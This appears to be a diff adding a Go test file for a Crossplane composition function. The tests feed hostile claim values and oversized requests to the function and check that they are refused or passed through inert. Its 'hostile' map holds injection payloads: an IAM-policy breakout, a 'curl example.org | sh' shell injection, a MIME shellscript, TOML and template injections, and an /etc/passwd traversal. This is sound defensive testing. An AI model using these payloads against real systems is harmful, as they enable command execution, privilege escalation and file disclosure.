@@ -1,0 +1,471 @@
+package laws
+
+import (
+	"encoding/json"
+	"fmt"
+	"maps"
+	"runtime"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"google.golang.org/protobuf/proto"
+	"google.golang.org/protobuf/types/known/structpb"
+	"k8s.io/apimachinery/pkg/util/validation"
+
+	"github.com/crossplane/crossplane-runtime/v2/pkg/fieldpath"
+	fnv1 "github.com/crossplane/function-sdk-go/proto/v1"
+	"github.com/seafarer-cloud/function-seafarer-cluster/internal/render"
+	"github.com/seafarer-cloud/function-seafarer-cluster/test/examples"
+)
+
+// hostile values: each means something to somebody who reads what a platform is
+// composed of, and must mean nothing.
+var hostile = map[string]string{
+	"JSON":        `x"},{"Effect":"Allow","Action":"*","Resource":"*"}]}`,
+	"Wildcard":    "*",
+	"Variable":    "${aws:username}",
+	"YAML":        "x\n- y: &a !!binary z\n---\nkind: Secret",
+	"Template":    `{{ .Values.secret }}{{ lookup "v1" "Secret" "" "" }}`,
+	"Shell":       "x'; curl example.org | sh #`id`$(id)",
+	"TOML":        "x\"\n[settings.host-containers.admin]\nenabled = true\n",
+	"MIME":        "x\n--//\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nid\n",
+	"Path":        "../../../../etc/passwd",
+	"Control":     "x\x00\x1b[31m\u202ey",
+	"Long":        strings.Repeat("x", 300),
+	"ARN":         "arn:aws:iam::999999999999:role/admin",
+	"TrailingDot": "x.",
+}
+
+// TestInjection puts a hostile value where a claim may say anything. Either the
+// claim is refused, or the value is there as it stands and nothing around it is
+// another: no field more, no list longer, in JSON within strings, too.
+func TestInjection(t *testing.T) {
+	for leaf, m := range mutations {
+		at := m.at
+		if at == "" {
+			at = leaf
+		}
+		if m.shownBy != "" {
+			continue // It changes nothing that is composed here, and its pattern is narrow.
+		}
+		plain, ok := m.to[0].(string)
+		if !ok {
+			continue
+		}
+		t.Run(leaf, func(t *testing.T) {
+			e := examples.Get(m.example)
+			with := func(v string) *fnv1.RunFunctionResponse {
+				return examples.Run(t, told(t, claimed(t, e, func(c *fieldpath.Paved) { alter(t, c, map[string]any{at: v}) })))
+			}
+			want := with(plain)
+			if m := render.Fatal(want); m != "" {
+				t.Fatalf("%q is refused: %s", plain, m)
+			}
+			for name, v := range hostile {
+				if name == "ARN" && leaf == "spec.access.admins[]" {
+					continue // That's what an admin is.
+				}
+				got := with(v)
+				if m := render.Fatal(got); m != "" {
+					if !strings.HasPrefix(m, "spec.") {
+						t.Errorf("%s: want a refusal that names the field, got: %s", name, m)
+					}
+					continue
+				}
+				for _, d := range differences("", examples.Desired(want), examples.Desired(got), "") {
+					if !d.harmless(v) {
+						t.Errorf("%s: %s", name, d)
+					}
+				}
+			}
+		})
+	}
+}
+
+// A difference between what two claims are composed of.
+type difference struct {
+	path string
+
+	// policy is whether it's in a document of IAM, where some characters mean more
+	// than themselves.
+	policy    bool
+	want, got any
+}
+
+func (d difference) String() string {
+	return fmt.Sprintf("%s: want %#v, got %#v", d.path, d.want, d.got)
+}
+
+// harmless tells whether a value is all that differs: it's a string still, which
+// holds the value, or a name that's made of it.
+func (d difference) harmless(value string) bool {
+	want, isString := d.want.(string)
+	got, isStringStill := d.got.(string)
+	if !isString || !isStringStill {
+		return false
+	}
+	if d.policy {
+		for _, c := range []string{"*", "?", "$"} {
+			if strings.Count(want, c) != strings.Count(got, c) {
+				return false
+			}
+		}
+	}
+	return got == value || strings.Contains(got, value) || len(validation.IsDNS1123Subdomain(got)) == 0
+}
+
+// differences between two values, with JSON in strings taken for what it is.
+func differences(path string, want, got any, document string) []difference {
+	switch w := want.(type) {
+	case map[string]any:
+		g, ok := got.(map[string]any)
+		if !ok || !slices.Equal(slices.Sorted(maps.Keys(w)), slices.Sorted(maps.Keys(g))) {
+			return []difference{{path: path, want: want, got: got}}
+		}
+		var ds []difference
+		for k := range w {
+			ds = append(ds, differences(path+"."+k, w[k], g[k], document)...)
+		}
+		return ds
+	case []any:
+		g, ok := got.([]any)
+		if !ok || len(w) != len(g) {
+			return []difference{{path: path, want: want, got: got}}
+		}
+		var ds []difference
+		for i := range w {
+			ds = append(ds, differences(fmt.Sprintf("%s.%d", path, i), w[i], g[i], document)...)
+		}
+		return ds
+	case string:
+		if g, ok := got.(string); ok {
+			return differencesOfStrings(path, w, g, document)
+		}
+	}
+	if want == got {
+		return nil
+	}
+	return []difference{{path: path, want: want, got: got}}
+}
+
+func differencesOfStrings(path, want, got, document string) []difference {
+	if want == got {
+		return nil
+	}
+	var w, g any
+	if json.Unmarshal([]byte(want), &w) == nil && strings.HasPrefix(want, "{") {
+		if err := json.Unmarshal([]byte(got), &g); err != nil {
+			return []difference{{path: path, want: want, got: got}}
+		}
+		return differences(path, w, g, path)
+	}
+	return []difference{{path: path, policy: strings.Contains(strings.ToLower(document), "policy"), want: want, got: got}}
+}
+
+// TestHostileKeys of maps, which Kubernetes and AWS have opinions of.
+func TestHostileKeys(t *testing.T) {
+	e := examples.Get("node-pools")
+	for _, at := range []string{"spec.tags", "spec.systemNodes.labels", "spec.karpenter.nodePools[0].labels", "spec.karpenter.nodeClasses[0].tags", "spec.karpenter.nodePools[0].limits"} {
+		for name, v := range hostile {
+			rsp := examples.Run(t, told(t, claimed(t, e, func(c *fieldpath.Paved) { alter(t, c, map[string]any{at: map[string]any{v: "1"}}) })))
+			if m := render.Fatal(rsp); m != "" {
+				if !strings.HasPrefix(m, at) {
+					t.Errorf("%s in %s: want a refusal that names the field, got: %s", name, at, m)
+				}
+				continue
+			}
+			if !hasKey(examples.Desired(rsp), v) {
+				t.Errorf("%s in %s: it's neither refused nor there", name, at)
+			}
+		}
+	}
+}
+
+// hasKey tells whether a value has a key somewhere.
+func hasKey(v any, key string) bool {
+	switch v := v.(type) {
+	case map[string]any:
+		for k, e := range v {
+			if k == key || hasKey(e, key) {
+				return true
+			}
+		}
+	case []any:
+		return slices.ContainsFunc(v, func(e any) bool { return hasKey(e, key) })
+	}
+	return false
+}
+
+// TestHostileNames of a composite resource, with a claim or without. An API server
+// would not take them, but anything may call.
+func TestHostileNames(t *testing.T) {
+	e := examples.Get("minimal")
+	claimed := told(t, e.Request(t))
+	own := [][]string{{"metadata", "name"}, {"metadata", "namespace"}}
+	for _, of := range []struct {
+		req   *fnv1.RunFunctionRequest
+		paths [][]string
+	}{
+		{req: claimed, paths: append(own, []string{"spec", "claimRef", "name"}, []string{"spec", "claimRef", "namespace"})},
+		{req: withoutClaim(t, claimed), paths: own},
+	} {
+		for name, v := range hostile {
+			for _, path := range of.paths {
+				req := examples.Clone(t, of.req)
+				set(req, string(asJSON(t, v)), path...)
+				for _, ill := range illNamed(examples.Run(t, req)) {
+					t.Errorf("%s in %v: %s", name, path, ill)
+				}
+			}
+		}
+	}
+}
+
+// illNamed resources of an answer: those with names that Kubernetes does not take.
+func illNamed(rsp *fnv1.RunFunctionResponse) []string {
+	var ill []string
+	for key, r := range rsp.GetDesired().GetResources() {
+		for _, field := range []string{"name", "namespace"} {
+			got := at(r.GetResource(), "metadata", field).GetStringValue()
+			if got != "" && len(validation.IsDNS1123Subdomain(got)) > 0 {
+				ill = append(ill, fmt.Sprintf("%s of %s is %q", field, key, got))
+			}
+		}
+	}
+	return ill
+}
+
+// TestHostileFacts are told by what exists, which a claim's owner may have a hand
+// in. In a policy they are what they were: no statement more, and no wildcard.
+func TestHostileFacts(t *testing.T) {
+	e := examples.Get("irsa")
+	steady := e.Steady(t)
+	want := examples.Desired(examples.Run(t, steady))
+	for name, v := range hostile {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			for key, r := range steady.GetObserved().GetResources() {
+				status := at(r.GetResource(), "status", "atProvider").GetStructValue()
+				if len(status.GetFields()) == 0 {
+					continue
+				}
+				req := examples.Clone(t, steady)
+				o := req.GetObserved().GetResources()[key].GetResource()
+				at(o, "status").GetStructValue().Fields["atProvider"] = everywhere(structpb.NewStructValue(status), v)
+				rsp := examples.Run(t, req)
+				if render.Fatal(rsp) != "" {
+					continue
+				}
+				for _, d := range differences("", want, examples.Desired(rsp), "") {
+					if !d.harmless(v) {
+						t.Errorf("the status of %s: %s", key, d)
+					}
+				}
+			}
+		})
+	}
+}
+
+// everywhere in a value, strings are another.
+func everywhere(v *structpb.Value, s string) *structpb.Value {
+	switch k := v.GetKind().(type) {
+	case *structpb.Value_StringValue:
+		return structpb.NewStringValue(s)
+	case *structpb.Value_ListValue:
+		l := &structpb.ListValue{}
+		for _, e := range k.ListValue.GetValues() {
+			l.Values = append(l.Values, everywhere(e, s))
+		}
+		return structpb.NewListValue(l)
+	case *structpb.Value_StructValue:
+		o := &structpb.Struct{Fields: make(map[string]*structpb.Value)}
+		for f, e := range k.StructValue.GetFields() {
+			o.Fields[f] = everywhere(e, s)
+		}
+		return structpb.NewStructValue(o)
+	default:
+		return v
+	}
+}
+
+// maxMessage is how long an explanation may be: people read it, and Kubernetes
+// takes no longer one in a condition.
+const maxMessage = 32 * 1024
+
+// maxTook is how long any answer may take, on a slow machine that looks for races,
+// too: on one that does not, the worst takes two seconds. What's compared with all
+// else of its kind takes many minutes.
+const maxTook = time.Minute
+
+// maxAllocated is how much memory an answer may allocate all in all. It's garbage
+// soon: far less is in use at a time.
+const maxAllocated = 256 * (1 << 20)
+
+// TestHuge requests, up to the largest that's taken, get a short answer in time.
+func TestHuge(t *testing.T) {
+	const size = 4 << 20
+	e := examples.Get("seafarer-cluster")
+	spec := func(req *fnv1.RunFunctionRequest) map[string]*structpb.Value {
+		return at(req.GetObserved().GetComposite().GetResource(), "spec").GetStructValue().GetFields()
+	}
+	many := func(n int, v func(i int) *structpb.Value) *structpb.Value {
+		o := &structpb.Struct{Fields: make(map[string]*structpb.Value, n)}
+		for i := range n {
+			o.Fields[fmt.Sprintf("field-%06d", i)] = v(i)
+		}
+		return structpb.NewStructValue(o)
+	}
+	text := func(int) *structpb.Value { return structpb.NewStringValue("x") }
+	list := func(n int, v *structpb.Value) *structpb.Value {
+		l := &structpb.ListValue{Values: make([]*structpb.Value, n)}
+		for i := range l.GetValues() {
+			l.Values[i] = v
+		}
+		return structpb.NewListValue(l)
+	}
+	nested := func(depth int) *structpb.Value {
+		v := structpb.NewStringValue("x")
+		for range depth {
+			v = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"x": v}})
+		}
+		return v
+	}
+
+	cases := map[string]struct {
+		reason string
+		change func(req *fnv1.RunFunctionRequest)
+
+		// want is what the refusal begins with, if it's refused.
+		want string
+	}{
+		"LongString": {
+			reason: "A value may be as long as the request.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				spec(req)["region"] = structpb.NewStringValue(strings.Repeat("x", size-(1<<20)))
+			},
+			want: "spec.region: Too long",
+		},
+		"UnknownFields": {
+			reason: "Each has something wrong with it.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				maps.Copy(spec(req), many(100_000, text).GetStructValue().GetFields())
+			},
+			want: "spec: Forbidden: may not hold more than 10000 values",
+		},
+		"Tags": {
+			reason: "Tags are copied to each resource.",
+			change: func(req *fnv1.RunFunctionRequest) { spec(req)["tags"] = many(100_000, text) },
+			want:   "spec: Forbidden: may not hold more than 10000 values",
+		},
+		"NodePools": {
+			reason: "Items of a list are compared with one another.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				k := spec(req)["karpenter"].GetStructValue().GetFields()
+				k["nodePools"] = list(2_000, k["nodePools"].GetListValue().GetValues()[0])
+			},
+			want: "spec: Forbidden: may not hold more than 10000 values",
+		},
+		"Zones": {
+			reason: "Items of a set must differ.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				spec(req)["network"].GetStructValue().Fields["zones"] = list(100_000, structpb.NewStringValue("x"))
+			},
+			want: "spec: Forbidden: may not hold more than 10000 values",
+		},
+		"JustSmallEnough": {
+			reason: "Each has something wrong with it, and is compared with all others.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				spec(req)["access"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"admins": list(9_500, structpb.NewStringValue("x"))}})
+			},
+			want: "spec.access.admins: Too many: 9500",
+		},
+		"Admins": {
+			reason: "Each becomes a resource.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				spec(req)["access"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"admins": list(50_000, structpb.NewStringValue("arn:aws:iam::1:role/x"))}})
+			},
+			want: "spec: Forbidden: may not hold more than 10000 values",
+		},
+		"DeepValues": {
+			reason: "Values of the chart may be anything.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				spec(req)["karpenter"].GetStructValue().Fields["values"] = structpb.NewStructValue(&structpb.Struct{Fields: map[string]*structpb.Value{"x": nested(3_000)}})
+			},
+			want: "spec: Forbidden: may not hold values in more than 100 others",
+		},
+		"DeepSpec": {
+			reason: "A field may be what nobody expects there.",
+			change: func(req *fnv1.RunFunctionRequest) { spec(req)["network"] = nested(3_000) },
+			want:   "spec: Forbidden: may not hold values in more than 100 others",
+		},
+		"DeepInput": {
+			reason: "The platform team may err, too.",
+			change: func(req *fnv1.RunFunctionRequest) { req.Input = nested(3_000).GetStructValue() },
+			want:   "cannot read the function's input in the Composition",
+		},
+		"Observed": {
+			reason: "An earlier step may have composed ten thousand resources.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				for i := range 10_000 {
+					o, err := structpb.NewStruct(map[string]any{"apiVersion": "v1", "kind": "ConfigMap", "metadata": map[string]any{"name": fmt.Sprintf("x-%d", i)}})
+					if err != nil {
+						t.Fatal(err)
+					}
+					req.Observed.Resources[fmt.Sprintf("x-%d", i)] = &fnv1.Resource{Resource: o}
+				}
+			},
+		},
+		"DeepObserved": {
+			reason: "A resource may have any status.",
+			change: func(req *fnv1.RunFunctionRequest) {
+				for _, r := range req.GetObserved().GetResources() {
+					r.GetResource().Fields["status"] = nested(1_000)
+				}
+			},
+		},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			req := e.Steady(t)
+			tc.change(req)
+			b := marshal(t, req)
+			if len(b) > size {
+				t.Fatalf("%d bytes would not be taken: want %d at most", len(b), size)
+			}
+			var rsp *fnv1.RunFunctionResponse
+			took, allocated := cost(func() {
+				req := &fnv1.RunFunctionRequest{}
+				if err := proto.Unmarshal(b, req); err != nil {
+					t.Fatal(err)
+				}
+				rsp = examples.Run(t, req)
+			})
+			t.Logf("%d bytes, answered in %s with %d MB allocated: %.80s", len(b), took, allocated/(1<<20), render.Fatal(rsp))
+			if took > maxTook {
+				t.Errorf("%s\nRunFunction(...) of %d bytes took %s: want %s at most", tc.reason, len(b), took, maxTook)
+			}
+			if allocated > maxAllocated {
+				t.Errorf("%s\nRunFunction(...) of %d bytes allocated %d: want %d at most", tc.reason, len(b), allocated, maxAllocated)
+			}
+			if m := render.Fatal(rsp); len(m) > maxMessage || (m == "") != (tc.want == "") || !strings.HasPrefix(m, tc.want) {
+				t.Errorf("%s\nRunFunction(...): want an explanation of %d bytes at most that begins with %q, got %d: %.1000s", tc.reason, maxMessage, tc.want, len(m), m)
+			}
+			if err := proto.Unmarshal(marshal(t, rsp), &fnv1.RunFunctionResponse{}); err != nil {
+				t.Errorf("%s\nthe answer cannot be read: %v", tc.reason, err)
+			}
+		})
+	}
+}
+
+// cost of something, in time and in memory allocated, garbage included.
+func cost(f func()) (time.Duration, uint64) {
+	var before, after runtime.MemStats
+	runtime.ReadMemStats(&before)
+	began := time.Now()
+	f()
+	took := time.Since(began)
+	runtime.ReadMemStats(&after)
+	return took, after.TotalAlloc - before.TotalAlloc
+}
